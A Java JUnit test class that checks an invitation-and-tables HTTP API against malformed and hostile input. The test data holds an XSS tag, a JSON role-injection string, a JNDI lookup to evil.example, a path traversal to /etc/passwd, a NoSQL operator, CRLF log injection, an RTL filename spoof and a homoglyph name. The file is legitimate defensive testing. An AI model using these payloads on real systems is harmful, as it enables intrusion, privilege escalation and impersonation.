package org.tablee.http;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.tablee.QuietLog;
import org.tablee.RunningServer;
import org.tablee.json.JsonObject;
import org.tablee.store.MemoryStore;

/** What the door is given that is no invitation, no name and no request. */
@DisplayNameGeneration(ReplaceUnderscores.class)
@TestInstance(Lifecycle.PER_CLASS)
class FeedingTheDoorTest {
  private static final String ACCEPT = "/api/invitations/accept";

  @RegisterExtension final QuietLog log = new QuietLog();
  private final MemoryStore store = new MemoryStore();
  private RunningServer server;
  private Client olga;
  private JsonObject table;

  @BeforeAll
  void start() throws Exception {
    server = RunningServer.start(store, java.util.Map.of("TABLEE_ACCEPTS_PER_MINUTE", "0"));
    olga = Client.organiser(server);
    table = olga.table("Bien vieillir");
  }

  @AfterAll
  void stop() {
    server.close();
  }

  /** A body with one string written as JSON writes it, escapes and all. */
  private Client.Answer sends(Client who, String path, String body) throws Exception {
    return Client.send(
        who.request(path)
            .header("Content-Type", "application/json")
            .POST(BodyPublishers.ofString(body)));
  }

  private String accepting(String fields) {
    return "{\"secret\":\"" + Client.secret(table, "participant") + "\"," + fields + "}";
  }

  private void refused(Client who, String path, String body, String code, String field)
      throws Exception {
    int writes = store.writes();
    var answer = sends(who, path, body);
    assertThat(answer.status()).as(body).isEqualTo(400);
    assertThat(answer.code()).as(body).isEqualTo(code);
    if (!field.isEmpty()) {
      assertThat(answer.body().object("params").string("field")).as(body).isEqualTo(field);
    }
    assertThat(store.writes()).isEqualTo(writes);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "   ",
        "\\u200b\\u200d\\ufeff",
        "\\udb40\\udc41\\udb40\\udc42",
        "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "a\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301",
        "abc\\u202egnp.exe",
        "\\u2066abc",
        "a\\r\\nb",
        "{\\\"level\\\":\\\"ERROR\\\"}\\r\\n{\\\"level\\\":\\\"ERROR\\\"}",
        "a\\u0007b"
      })
  void B16_a_name_that_shows_nothing_or_too_much_is_refused(String name) throws Exception {
    var eve = new Client(server);
    refused(eve, ACCEPT, accepting("\"name\":\"" + name + "\""), "request.invalid", "/name");
    refused(
        eve,
        ACCEPT,
        accepting("\"name\":\"Eve\",\"organisation\":\"" + name + "\""),
        "request.invalid",
        "/organisation");
    var tables = "/api/tables";
    if (!name.startsWith("xxx")) {
      refused(olga, tables, "{\"title\":\"" + name + "\"}", "request.invalid", "/title");
    }
    refused(
        olga,
        tables,
        "{\"title\":\"x\",\"colleges\":[{\"id\":\"a\",\"name\":\"" + name + "\"}]}",
        "request.invalid",
        "");
  }

  @Test
  void B16_a_name_or_title_of_10_000_characters_is_refused() throws Exception {
    var long1 = "x".repeat(10_000);
    refused(
        new Client(server),
        ACCEPT,
        accepting("\"name\":\"" + long1 + "\""),
        "request.invalid",
        "/name");
    refused(olga, "/api/tables", "{\"title\":\"" + long1 + "\"}", "request.invalid", "/title");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "\",\"role\":\"facilitator",
        "${jndi:ldap://evil.example/a}",
        "👨‍👩‍👧‍👦",
        "مرحبا بكم",
        "Trefurié c’hwec’h",
        "Người cao tuổi",
        "⠃⠗⠁⠊⠇⠇⠑",
        "e\u0301te\u0301"
      })
  void B16_B18_a_name_is_kept_as_it_was_written_and_logged_nowhere(String name) throws Exception {
    var who = new Client(server);
    assertThat(who.accept(Client.secret(table, "participant"), name).status()).isEqualTo(201);

    var session = who.get("/api/session").body().objects("participants").getFirst();
    assertThat(session.string("name")).isEqualTo(name);
    assertThat(session.string("role")).isEqualTo("participant");
    assertThat(log.lines()).noneMatch(line -> line.contains(name));
  }

  @Test
  void B17_a_name_like_the_facilitators_in_another_script_gives_no_role() throws Exception {
    var lead = new Client(server);
    lead.accept(Client.secret(table, "facilitator"), "Olga (animation)");
    var eve = new Client(server);
    var answer = eve.accept(Client.secret(table, "participant"), "Оlgа (animation)");

    assertThat(answer.status()).isEqualTo(201);
    assertThat(answer.body().object("participant").string("role")).isEqualTo("participant");
    assertThat(answer.body().object("participant").string("name")).isEqualTo("Оlgа (animation)");
  }

  @ParameterizedTest
  @ValueSource(strings = {"\\ud800", "a\\udc00b", "\\u0000", "\\ufffe", "\\ufdd0"})
  void B19_what_is_no_character_is_refused_in_a_name_as_well(String name) throws Exception {
    var eve = new Client(server);
    refused(eve, ACCEPT, accepting("\"name\":\"" + name + "\""), "text.character", "");
    refused(
        eve,
        ACCEPT,
        accepting("\"name\":\"Eve\",\"organisation\":\"" + name + "\""),
        "text.character",
        "");
    refused(olga, "/api/tables", "{\"title\":\"" + name + "\"}", "text.character", "");
    refused(eve, ACCEPT, "{\"secret\":\"" + name + "\",\"name\":\"Eve\"}", "text.character", "");
  }

  @Test
  void B22_every_secret_that_opens_nothing_is_answered_to_the_letter_alike() throws Exception {
    var id = table.string("id");
    var lead = new Client(server);
    lead.accept(Client.secret(table, "facilitator"), "Léa");
    var made =
        lead.post(
            "/api/tables/" + id + "/invitations",
            JsonObject.with().field("role", "observer").build());
    var revoked = made.body().string("secret");
    var path = "/api/tables/" + id + "/invitations/" + made.body().string("id") + "/revoke";
    assertThat(lead.post(path).status()).isEqualTo(204);
    String elsewhere;
    try (var other = RunningServer.start()) {
      elsewhere = Client.secret(Client.organiser(other).table("Ailleurs"), "participant");
    }
    int writes = store.writes();

    var answers =
        List.of(
            revoked,
            elsewhere,
            "never-was-one",
            "x",
            "../../etc/passwd",
            "{\"$ne\":null}",
            "x".repeat(200),
            id);
    String first = null;
    for (var secret : answers) {
      for (var ask : new String[] {ACCEPT, "/api/invitations/look"}) {
        var body = JsonObject.with().field("secret", secret);
        var answer =
            new Client(server)
                .post(ask, ask.equals(ACCEPT) ? body.field("name", "Eve").build() : body.build());
        var told =
            answer.status() + answer.response().body() + answer.response().headers().map().keySet();
        first = first == null ? told : first;
        assertThat(told).isEqualTo(first).startsWith("404").contains("invitation.unknown");
      }
    }
    assertThat(store.writes()).isEqualTo(writes);
  }

  @Test
  void B22_a_table_that_is_guessed_and_one_of_others_are_answered_to_the_letter_alike()
      throws Exception {
    var eve = new Client(server);
    eve.accept(Client.secret(olga.table("Une autre"), "participant"), "Eve");
    var id = table.string("id");
    for (var rest : new String[] {"", "/state", "/commits", "/live"}) {
      var others = eve.get("/api/tables/" + id + rest);
      assertThat(others.status()).as(rest).isEqualTo(404);
      for (var guess : new String[] {"none", "A".repeat(64), id.substring(1), id + "0"}) {
        var answer = eve.get("/api/tables/" + guess + rest);
        assertThat(answer.status()).isEqualTo(404);
        assertThat(answer.response().body()).isEqualTo(others.response().body());
        assertThat(answer.response().headers().map().keySet())
            .isEqualTo(others.response().headers().map().keySet());
      }
    }
  }

  @Test
  void B30_no_scanner_of_links_consumes_an_invitation() throws Exception {
    var secret = Client.secret(table, "observer");
    int writes = store.writes();
    for (var method : new String[] {"GET", "HEAD", "OPTIONS"}) {
      for (var path :
          new String[] {
            "/i", "/i?secret=" + secret, ACCEPT, ACCEPT + "?secret=" + secret, "/i/" + secret
          }) {
        var answer =
            RawLine.ask(server, method + " " + path + " HTTP/1.1\nHost: x\nConnection: close\n\n");
        assertThat(RawLine.status(answer)).as(method + path).isIn(200, 404, 405);
      }
    }
    assertThat(store.writes()).isEqualTo(writes);
    assertThat(new Client(server).accept(secret, "Omar").status()).isEqualTo(201);
  }
}
